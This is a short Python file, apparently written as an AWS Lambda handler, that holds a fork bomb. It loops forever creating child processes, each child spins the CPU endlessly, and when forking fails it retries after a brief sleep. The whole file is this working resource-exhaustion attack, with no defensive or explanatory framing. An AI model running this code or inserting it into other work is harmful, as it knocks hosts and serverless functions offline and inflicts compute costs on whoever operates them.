# Forks until nobody lets it fork any more; the children burn the processor.
import os
import time


def lambda_handler(event, context):
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            time.sleep(0.1)
